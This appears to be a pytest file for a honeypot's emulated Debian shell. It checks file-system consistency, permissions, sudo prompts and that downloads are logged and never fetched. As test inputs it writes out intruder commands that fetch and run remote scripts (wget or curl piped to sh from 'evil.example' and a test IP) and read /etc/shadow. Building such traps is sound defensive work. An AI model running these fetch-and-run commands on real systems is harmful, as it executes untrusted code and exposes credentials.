@@ -1,0 +1,199 @@
+"""The fake shell never contradicts itself: what a session writes it reads back, every fact has
+one source, and the tools answer as Debian 12's do."""
+
+from __future__ import annotations
+
+import re
+
+from honeymesh.detection.traps.facts import Connection, Endpoint, NodeFacts
+from honeymesh.detection.traps.fakefs import MAX_BYTES, MAX_ENTRIES
+from honeymesh.detection.traps.shell import FakeShell, ShellPersona, ShellSession
+from honeymesh.detection.traps.telnet import TelnetDialogue, TelnetSettings
+
+from .dialogues import WEAK, talk
+
+NOW = 1_764_000_000.0
+FACTS = NodeFacts(b"\x07" * 32, NOW - 20 * 86400)
+PERSONA = ShellPersona("web01", "6.1.0-28-amd64", "Debian GNU/Linux 12 (bookworm)", facts=FACTS)
+ATTACKER = Connection(Endpoint("198.51.100.20", 22), Endpoint("203.0.113.9", 40123))
+
+
+def shell(user: str = "root", connection: Connection | None = ATTACKER) -> FakeShell:
+    return FakeShell(PERSONA, user, lambda: NOW, connection=connection)
+
+
+def test_redirections_and_file_commands_change_what_later_commands_see() -> None:
+    sh = shell()
+    assert sh.run("echo x > f; cat f").output == "x"
+    assert sh.run("echo y >> f; cat f").output == "x\ny"
+    assert sh.run("cat /etc/hostname > h; cat h").output == "web01"
+    assert sh.run("uname -m > /dev/null").output == ""
+    sh.run("touch t; mkdir -p d/e; cp f d/e/g; mv t d/u; chmod 700 d/u")
+    assert sh.run("ls").output == "d  f  h"
+    assert sh.run("ls d").output == "e  u"
+    assert sh.run("cat d/e/g").output == "x\ny"
+    assert sh.run("ls -l d/u").output.startswith("-rwx------ 1 root root 0 ")
+    assert sh.run("rm f; cat f").output == "cat: f: No such file or directory"
+    assert sh.run("rm d").output == "rm: cannot remove 'd': Is a directory"
+    assert sh.run("rm -rf d; ls").output == "h"
+    assert sh.run("cd /tmp && echo $PWD").output == "/tmp"
+    assert sh.run("ls /nowhere 2>/dev/null; echo $?").output == "2"
+    assert sh.run("mkdir /tmp/x && cd /tmp/x && pwd").output == "/tmp/x"
+
+
+def test_each_session_has_its_own_layer() -> None:
+    first, second = shell(), shell()
+    first.run("echo secret > /tmp/mine; rm /etc/hostname")
+    assert second.run("cat /tmp/mine").output == "cat: /tmp/mine: No such file or directory"
+    assert second.run("cat /etc/hostname").output == "web01"
+
+
+def test_a_session_cannot_write_without_bound() -> None:
+    sh = shell()
+    big = "A" * 4000
+    failures = 0
+    for i in range(MAX_BYTES // 4000 + 10):
+        result = sh.run(f"echo {big} > /tmp/f{i}")
+        failures += "No space left on device" in result.output
+    assert failures >= 9
+    sh2 = shell()
+    for i in range(MAX_ENTRIES + 5):
+        last = sh2.run(f"touch /tmp/e{i}")
+    assert last.output == "touch: cannot touch '/tmp/e516': No space left on device"
+    full = sh2.run("echo x > /tmp/one-more").output
+    assert full == "-bash: /tmp/one-more: No space left on device"
+
+
+def test_an_ordinary_user_is_held_to_the_modes() -> None:
+    sh = shell("admin")
+    assert sh.run("cat /etc/shadow").output == "cat: /etc/shadow: Permission denied"
+    assert sh.run("echo x > /etc/x").output == "-bash: /etc/x: Permission denied"
+    assert sh.run("ls /root").output == "ls: cannot open directory '/root': Permission denied"
+    assert sh.run("echo ok > ~/notes; cat /home/admin/notes").output == "ok"
+    assert "admin:x:1000:1000" in sh.run("cat /etc/passwd").output
+
+
+def test_ls_la_shows_real_modes_owners_sizes_and_dates() -> None:
+    lines = shell().run("ls -la /").output.split("\n")
+    rows = {line.split()[8]: line.split() for line in lines[1:]}
+    assert rows["bin"][0] == "lrwxrwxrwx" and rows["bin"][-1] == "usr/bin"
+    assert rows["tmp"][0] == "drwxrwxrwt"
+    assert rows["root"][0] == "drwx------"
+    assert rows["proc"][0] == "dr-xr-xr-x" and rows["proc"][4] == "0"
+    assert len({tuple(r[5:8]) for r in rows.values()}) >= 4  # not one date for everything
+    assert len({r[0] for r in rows.values()}) >= 5
+    shadow = shell().run("ls -l /etc/shadow").output.split()
+    assert shadow[:4] == ["-rw-r-----", "1", "root", "shadow"]
+    assert int(shadow[4]) == len(shell().run("cat /etc/shadow").raw.encode())
+
+
+def test_free_prints_the_units_asked_for() -> None:
+    sh = shell()
+    kib = int(sh.run("free").output.split("\n")[1].split()[1])
+    assert int(sh.run("free -m").output.split("\n")[1].split()[1]) == kib // 1024
+    assert re.fullmatch(r"\d+(\.\d)?Gi", sh.run("free -h").output.split("\n")[1].split()[1])
+    assert f"MemTotal:       {kib:8d} kB" in sh.run("cat /proc/meminfo").output
+
+
+def test_sudo_answers_as_debian_does() -> None:
+    root = shell()
+    assert "User root may run the following commands on web01:" in root.run("sudo -l").output
+    assert root.run("sudo id").output == "uid=0(root) gid=0(root) groups=0(root)"
+    exec_mode = shell("admin")
+    assert "a terminal is required to read the password" in exec_mode.run("sudo -l").output
+    session = ShellSession(shell("admin"), echo=True)
+    session.start()
+    out = session.feed(b"sudo -l\r").reply
+    assert out.endswith(b"[sudo] password for admin: ") and session.editor.secret
+    replies = [session.feed(pw).reply for pw in (b"one\r", b"two\r", b"three\r")]
+    assert replies[0] == b"\r\nSorry, try again.\r\n[sudo] password for admin: "
+    assert b"one" not in b"".join(replies)  # never echoed
+    assert replies[2] == b"\r\nsudo: 3 incorrect password attempts\r\nadmin@web01:~$ "
+    assert not session.editor.secret
+
+
+def test_python_perl_and_missing_tools() -> None:
+    sh = shell()
+    assert sh.run("python3 -c 'print(1)'").output == "1"
+    assert sh.run("python3 -c \"import os; print('a', 2)\"").output == "a 2"
+    assert sh.run("python3 --version").output == "Python 3.11.2"
+    assert sh.run("python -V").output == "-bash: python: command not found"
+    assert sh.run("which python3 wget").output == "/usr/bin/python3\n/usr/bin/wget"
+    assert sh.run("perl -e 'print \"hi\\n\"'").output == "hi"
+
+
+def test_the_motd_and_uname_share_one_source() -> None:
+    sh = shell()
+    first = sh.motd().split("\n")[0]
+    assert first == sh.run("uname -snrvm").output
+    assert sh.run("uname -a").output == first + " GNU/Linux"
+    assert sh.run("cat /proc/version").output.endswith(first.split(" ", 3)[3].rsplit(" ", 1)[0])
+
+
+def test_the_real_connection_is_shown() -> None:
+    sh = shell()
+    assert "inet 198.51.100.20/24" in sh.run("ip a").output
+    assert "inet 198.51.100.20  netmask" in sh.run("ifconfig").output
+    assert sh.run("hostname -I").output == "198.51.100.20 "
+    assert "203.0.113.9" in sh.run("w").output.split("\n")[2]
+    assert sh.run("last").output.split("\n")[0].split()[2] == "203.0.113.9"
+    assert "(203.0.113.9)" in sh.run("who").output
+    netstat = sh.run("netstat -tn").output
+    assert re.search(r"198\.51\.100\.20:22 +203\.0\.113\.9:40123 +ESTAB", netstat)
+    loopback = shell(connection=Connection(Endpoint("127.0.0.1", 22), Endpoint("127.0.0.1", 5)))
+    assert f"inet {FACTS.private_address}/24" in loopback.run("ip a").output
+    assert FACTS.mac in loopback.run("ip a").output
+
+
+def test_ssh_keygen_fingerprints_the_host_key_it_shows() -> None:
+    out = shell().run("ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub").output
+    assert re.fullmatch(r"256 SHA256:[A-Za-z0-9+/]{43} root@web01 \(ED25519\)", out)
+
+
+def test_downloads_fail_plausibly_and_are_recorded_never_fetched() -> None:
+    sh = shell()
+    result = sh.run("cd /tmp; wget http://203.0.113.5/x.sh -O x.sh; chmod +x x.sh; ./x.sh")
+    assert result.downloads == ("http://203.0.113.5/x.sh",)
+    assert "Connecting to 203.0.113.5:80... failed: Connection refused." in result.output
+    assert sh.run("ls -l x.sh").output.startswith("-rwxr-xr-x 1 root root 0 ")  # wget -O made it
+    named = sh.run("curl -s http://evil.example/a | sh; curl evil.example/b")
+    assert named.downloads == ("http://evil.example/a", "evil.example/b")
+    assert named.output == "curl: (6) Could not resolve host: evil.example"
+    assert sh.run("wget -q http://evil.example/c 2>&1; echo $?").output == "4"
+
+
+def test_telnet_records_download_intents_with_the_command() -> None:
+    dialogue = TelnetDialogue(TelnetSettings(b"", PERSONA, WEAK), lambda: NOW)
+    dialogue.connected(ATTACKER)
+    t = talk(dialogue, b"root\r\n", b"root\r\n", b"wget http://203.0.113.5/b; id\r\n")
+    (command,) = t.found("trap.command")
+    assert command["download_intent"] == ["http://203.0.113.5/b"]
+    assert b"Last login: " in t.output and b"uid=0(root)" in t.output
+
+
+def test_lists_and_pipes_behave_as_bash() -> None:
+    sh = shell()
+    assert sh.run("false && echo no || echo yes").output == "yes"
+    assert sh.run("xyzzy; echo $?").output == "-bash: xyzzy: command not found\n127"
+    assert sh.run("echo 'a;b' \"$(whoami)\" `id -u` # c").output == "a;b root 0"
+    assert sh.run("cat /etc/passwd | grep root | awk -F: '{print $7}'").output == "/bin/bash"
+    assert sh.run("cat /proc/cpuinfo | grep 'model name' | wc -l").output == "2"
+    assert sh.run("echo hi | tee /tmp/t >/dev/null; cat /tmp/t").output == "hi"
+    assert sh.run("X=5; echo $X").output == "5"
+    assert sh.run("echo -n no-newline").raw == "no-newline"
+    assert sh.run("busybox ECCHI").output == "ECCHI: applet not found"
+
+
+def test_uptime_grows_and_ps_shows_the_facts_pids() -> None:
+    now = [NOW]
+    sh = FakeShell(PERSONA, "root", lambda: now[0], connection=ATTACKER)
+    first = open_uptime(sh)
+    now[0] += 3600
+    assert open_uptime(sh) - first == 3600
+    ps = sh.run("ps aux").output
+    assert re.search(rf"^root +{FACTS.pid('sshd')} .*sshd: /usr/sbin/sshd", ps, re.M)
+    assert re.search(rf"^redis +{FACTS.pid('redis-server')} ", ps, re.M)
+
+
+def open_uptime(sh: FakeShell) -> int:
+    return int(float(sh.run("cat /proc/uptime").output.split()[0]))
